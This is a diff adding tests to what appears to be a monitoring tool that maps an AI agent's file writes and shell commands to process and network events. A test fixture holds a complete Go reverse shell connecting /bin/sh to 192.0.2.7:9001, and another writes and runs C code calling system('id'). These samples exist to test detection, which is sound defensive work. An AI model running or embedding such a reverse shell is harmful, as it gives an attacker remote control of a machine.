@@ -659,3 +659,35 @@ def test_other_tools_ip_port() -> None:
     assert ("", "10.20.30.40", 4444, "") in got
     assert ("", "10.1.1.1", 8080, "http") in got
     assert len(got) == 2
+
+
+GO_DIAL = (
+    'package main\n\nimport (\n\t"net"\n\t"os/exec"\n)\n\nfunc main() {\n'
+    '\tc, _ := net.Dial("tcp", "192.0.2.7:9001")\n\tcmd := exec.Command("/bin/sh")\n'
+    '\tcmd.Stdin, cmd.Stdout = c, c\n\tcmd.Run()\n}\n'
+)
+
+
+def test_built_source_written_earlier_is_a_code_event_of_the_compiler() -> None:
+    ctx = TrajectoryContext(episode_id="ep", run_id="r")
+    run(GO_DIAL, ToolKind.FILE_WRITE, ctx=ctx, path="/work/agent/main.go")
+    events = run("cd /work/agent && go run .", ctx=ctx, step=1)
+    code = [(img, cl) for img, cl in procs(events) if cl.startswith("go package main")]
+    assert code and code[0][0] == "/usr/bin/go"
+    assert "net.Dial" in code[0][1]
+    assert ("/usr/bin/go", "192.0.2.7", 9001, "") in nets(events)
+    # an explicit source argument, relative to the known cwd, and a C compiler
+    ctx2 = TrajectoryContext(episode_id="ep", run_id="r")
+    run('int main(){system("id");}\n', ToolKind.FILE_WRITE, ctx=ctx2, path="/tmp/w/x.c")
+    ev2 = run("cd /tmp/w && gcc -o x x.c && ./x", ctx=ctx2, step=1)
+    assert any(cl.startswith("gcc int main") for _, cl in procs(ev2))
+    assert any(cl == "id" for _, cl in procs(ev2))
+
+
+def test_build_of_unknown_or_unrelated_sources_adds_no_code_event() -> None:
+    ctx = TrajectoryContext(episode_id="ep", run_id="r")
+    run(GO_DIAL, ToolKind.FILE_WRITE, ctx=ctx, path="/work/other/main.go")
+    for text in ("cd /work/agent && go run .", "go run main.go", "go build ./cmd/server",
+                 "cat /work/other/main.go"):
+        events = run(text, ctx=ctx, step=1)
+        assert not [cl for _, cl in procs(events) if "net.Dial" in cl], text
